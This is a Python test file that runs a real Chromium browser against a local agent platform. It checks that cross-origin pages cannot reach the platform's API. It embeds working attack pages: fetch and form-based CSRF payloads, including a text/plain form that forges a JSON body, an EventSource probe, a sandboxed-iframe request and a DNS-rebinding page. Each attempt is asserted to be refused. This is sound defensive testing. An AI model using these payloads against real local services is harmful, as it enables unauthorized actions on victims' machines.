"""A web page cannot use the local platform of whoever reads it: a real browser tries."""

from __future__ import annotations

import http.client
import json
import pathlib
import queue
from typing import Any, Dict, Iterator

import pytest

from sekuire.local import LocalPlatform

from ..support.waiting import GUARD
from .browser import Answer, chromium, serve

pytestmark = pytest.mark.full


#: Tries everything that a page can; "X" stands for the platform's address, "K" for its API key, which a page would
#: not even know. Its findings go to the server that it came from.
SCRIPT = """
<!doctype html><title>a page from elsewhere</title><body><iframe name="sink"></iframe><script>
const task = JSON.stringify({agent_id: "victim", capability: "steal", input: null});
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    return [name, {status: answer.status, type: answer.type, text: await answer.text()}];
  } catch (error) {
    return [name, {error: String(error)}];
  }
}
function form() {
  return new Promise(resolve => {
    const form = document.createElement("form");
    form.method = "post"; form.enctype = "text/plain"; form.target = "sink"; form.action = "X/api/v1/tasks";
    const field = document.createElement("input");
    field.name = '{"agent_id": "victim", "capability": "steal", "input": "'; field.value = '"}';
    form.append(field); document.body.append(form);
    document.querySelector("iframe").onload = () => resolve(["form", {}]);
    form.submit();
  });
}
function stream() {
  return new Promise(resolve => {
    const source = new EventSource("X/api/v1/tasks/stream?worker_id=w");
    source.onopen = () => { source.close(); resolve(["stream", {status: 200}]); };
    source.onerror = () => { source.close(); resolve(["stream", {error: "refused"}]); };
  });
}
function sandbox() {
  return new Promise(resolve => {
    const frame = document.createElement("iframe");
    frame.sandbox = "allow-scripts";
    window.addEventListener("message", event => resolve(["opaque origin", event.data]));
    frame.srcdoc = `<script>fetch("X/api/v1/tasks", {method: "POST", mode: "no-cors", body: '${task}'}).then(
      a => parent.postMessage({type: a.type}, "*"), e => parent.postMessage({error: String(e)}, "*"))<\\/script>`;
    document.body.append(frame);
  });
}
(async () => {
  const key = {"X-API-Key": "K"};
  const found = await Promise.all([
    attempt("read", "X/api/v1/tasks"),
    attempt("read with the key", "X/api/v1/tasks", {headers: key}),
    attempt("simple post", "X/api/v1/tasks", {method: "POST", mode: "no-cors", body: task}),
    attempt("post with the key", "X/api/v1/tasks", {method: "POST", headers: key, body: task}),
    attempt("put", "X/api/v1/workspaces/ws_local/policy", {method: "PUT", headers: key, body: '{"content": {}}'}),
    form(), stream(), sandbox(),
  ]);
  await fetch("/found", {method: "POST", body: JSON.stringify(Object.fromEntries(found))});
})();
</script>
"""


@pytest.fixture
def platform() -> Iterator[LocalPlatform]:
    with LocalPlatform() as platform:
        yield platform


class Attacker:
    """Serves the page and takes its findings."""

    def __init__(self, script: str) -> None:
        self.script = script
        self.found: queue.Queue[Dict[str, Any]] = queue.Queue()

    def __call__(self, method: str, path: str, headers: Dict[str, str], body: bytes) -> Answer:
        if path == "/found":
            self.found.put(json.loads(body))
            return 200, "text/plain", b""
        if path == "/":
            return 200, "text/html", self.script.encode()
        return 404, "text/plain", b""


def test_a_page_of_another_origin_is_refused(platform: LocalPlatform, tmp_path: pathlib.Path) -> None:
    """Nothing that a page sends is carried out or readable, not even with the API key: each try is answered 403."""
    attacker = Attacker(SCRIPT.replace("X/", platform.url + "/").replace('"K"', json.dumps(platform.api_key)))
    with serve(attacker) as port, chromium(tmp_path, f"http://127.0.0.1:{port}/"):
        found = attacker.found.get(timeout=GUARD)

    assert set(found) == {
        "read", "read with the key", "simple post", "post with the key", "put", "form", "stream", "opaque origin",
    }  # fmt: skip
    for name in ("read", "read with the key", "post with the key", "put"):
        assert "Failed to fetch" in found[name]["error"], name
    # What such an answer holds is hidden from the page; it was the refusal all the same, as the counts show.
    assert found["simple post"] == {"status": 0, "type": "opaque", "text": ""}
    assert found["opaque origin"] == {"type": "opaque"}
    assert found["stream"] == {"error": "refused"}
    assert platform.count("refused", 403) == len(found)
    assert platform.requests == [("refused", 403)] * len(found)
    assert tasks_of(platform) == []
    assert platform.streams() == []


REBOUND = """
<!doctype html><title>a name that moved</title><script>
(async () => {
  const key = {"X-API-Key": "K"};
  const found = {};
  for (const [name, options] of Object.entries({
    read: {headers: key},
    post: {method: "POST", headers: key, body: '{"agent_id": "victim", "capability": "steal", "input": null}'},
  })) {
    const answer = await fetch("/api/v1/tasks", options);
    found[name] = {status: answer.status, text: await answer.text()};
  }
  await fetch("/found", {method: "POST", body: JSON.stringify(found)});
})();
</script>
"""


def test_a_name_that_moves_to_this_machine_is_refused(platform: LocalPlatform, tmp_path: pathlib.Path) -> None:
    """DNS rebinding makes the platform's address a page's own origin; the Host gives it away: 421, whatever it sends.

    Another loopback address stands for the name's first address; what it passes on, unchanged, is what the platform
    would get once the name had moved.
    """
    port = int(platform.url.rpartition(":")[2])
    attacker = Attacker(REBOUND.replace('"K"', json.dumps(platform.api_key)))

    def moved(method: str, path: str, headers: Dict[str, str], body: bytes) -> Answer:
        if not path.startswith("/api/"):
            return attacker(method, path, headers, body)
        assert headers["Host"] == f"rebound.example:{port}"
        connection = http.client.HTTPConnection("127.0.0.1", port, timeout=GUARD)
        try:
            connection.request(method, path, body or None, headers)
            answer = connection.getresponse()
            return answer.status, answer.headers["Content-Type"], answer.read()
        finally:
            connection.close()

    rules = "--host-resolver-rules=MAP rebound.example 127.0.0.2"
    with serve(moved, "127.0.0.2", port), chromium(tmp_path, f"http://rebound.example:{port}/", rules):
        found = attacker.found.get(timeout=GUARD)

    assert {name: one["status"] for name, one in found.items()} == {"read": 421, "post": 421}
    assert platform.api_key not in json.dumps(found)
    # A browser that gets 421 tries once more, over another connection.
    assert set(platform.requests) == {("refused", 421)}
    assert tasks_of(platform) == []


def test_the_tries_would_succeed_from_outside_a_browser(platform: LocalPlatform) -> None:
    """The same request without an Origin and with the platform's own Host is taken: the tests above test something."""
    connection = http.client.HTTPConnection(platform.url[len("http://") :], timeout=GUARD)
    body = json.dumps({"agent_id": "victim", "capability": "steal", "input": None})
    try:
        connection.request("POST", "/api/v1/tasks", body, {"X-API-Key": platform.api_key})
        assert connection.getresponse().status == 201
    finally:
        connection.close()
    assert len(tasks_of(platform)) == 1


def tasks_of(platform: LocalPlatform) -> Any:
    connection = http.client.HTTPConnection(platform.url[len("http://") :], timeout=GUARD)
    try:
        connection.request("GET", "/api/v1/tasks", headers={"X-API-Key": platform.api_key})
        return json.load(connection.getresponse())["tasks"]
    finally:
        connection.close()
